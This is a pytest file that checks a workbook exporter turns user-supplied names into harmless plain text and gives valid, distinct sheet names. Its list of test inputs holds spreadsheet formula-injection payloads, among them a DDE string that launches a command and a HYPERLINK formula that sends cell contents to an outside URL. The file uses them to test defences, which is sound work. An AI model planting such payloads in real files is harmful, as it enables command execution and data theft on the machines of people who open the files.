"""No name that a person gives can become a formula, a link, markup or a sheet that no program opens."""

import io
import re
from dataclasses import fields, replace
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipelines.publish.brief import Words
from pipelines.publish.sheets import sheet_names, told_apart
from tests.builders import make_brief, make_tables
from tests.workbooks import MAIN, named, parts, write, xml

NASTY = (
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "https://example.org/",
    "mailto:a@example.org",
    "internal:Cover!A1",
    "{=1}",
    "1234",
    "1e5",
    "<b>&amp;</b>",
    "_x0041_",
    "'quoted'",
    "[c]",
    "a\x01b",
    "\ufffe",
    "Łódź, Ελλάδα, България, العربية 🙂",
)
# Characters that XML and spreadsheet programs can hold.
NAMES = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"), min_size=1, max_size=40
)


def assert_harmless(data: bytes) -> None:
    """Every cell with text is a plain text of the workbook's own, and the file leads nowhere."""
    for name, root in xml(data, "xl/worksheets/sheet").items():
        kinds = {cell.get("t") for cell in root.iter(f"{MAIN}c")}
        assert kinds <= {None, "s"}, name
        assert root.find(f".//{MAIN}f") is None
        assert all("id" not in key for link in root.iter(f"{MAIN}hyperlink") for key in link.attrib)
    assert xml(data, "xl/workbook.xml")["xl/workbook.xml"].find(f"{MAIN}definedNames") is None
    with ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        links = b"".join(archive.read(name) for name in names if name.endswith(".rels"))
    assert "TargetMode" not in links.decode()
    beginnings = ("xl/worksheets/", "xl/tables/", "xl/theme/", "docProps/", "_rels/", "xl/_rels/")
    others = {"[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"}
    assert [name for name in names if name not in others and not name.startswith(beginnings)] == []


@pytest.mark.parametrize("name", NASTY)
def test_a_name_stays_the_text_it_is(name):
    data = write(named(make_brief(), name))
    assert_harmless(data)
    found = parts(data)
    plain = " ".join(re.sub("[\x01\ufffe]", "", name).split())
    labels = set(found["by_gender"].column(found["by_gender"].heads[0])) - {"All", "Not known"}
    assert labels == {plain or "F", plain or "M", plain or "X"}
    for row in found["by_gender"].rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type in {"s", "f"}
                assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@"))


@settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck))
@given(NAMES, st.lists(NAMES, min_size=3, max_size=3))
def test_any_names_give_a_workbook_that_opens(name, genders):
    tables = {table_id: table for table_id, table in make_tables().items() if table_id in {"by_gender", "by_period"}}
    brief = named(make_brief(tables=tables, findings=()), name)
    labels = {"gender_code": dict(zip(("F", "M", "X"), genders, strict=True))}
    data = write(replace(brief, labels={**brief.labels, **labels}))
    assert_harmless(data)
    found = parts(data)
    assert set(brief.tables) <= set(found)
    shown = found["by_gender"].column(found["by_gender"].heads[0])
    assert shown[1:4] == [" ".join(gender.split()) or code for code, gender in labels["gender_code"].items()]


def test_words_that_are_the_same_leave_heads_and_sheets_apart():
    words = Words(**{field.name: "matters" for field in fields(Words)})
    found = parts(write(replace(make_brief(), words=words)))
    heads = found["by_advice_type"].heads
    assert len({head.casefold() for head in heads}) == len(heads)
    assert len({part.page.title.casefold() for part in found.values()}) == len(found)


@pytest.mark.parametrize(
    ("headings", "names"),
    [
        (["Clients", "CLIENTS", "clients"], ["Clients", "CLIENTS 2", "clients 3"]),
        (["a/b", "a:b", "[a]"], ["a-b", "a-b 2", "-a-"]),
        (["History", "''"], ["History 2", "-"]),
        (["People in the group of those who may be missed"], ["People in the group of those"]),
        (["x" * 40, "x" * 40], ["x" * 31, "x" * 29 + " 2"]),
        (["🙂" * 20], ["🙂" * 15]),
    ],
)
def test_names_of_sheets_are_those_that_programs_take(headings, names):
    assert list(sheet_names(headings)) == names


def test_names_that_are_taken_are_not_given_again():
    assert told_apart(["Notes", "Gender"], taken=["notes"]) == ("Notes 2", "Gender")
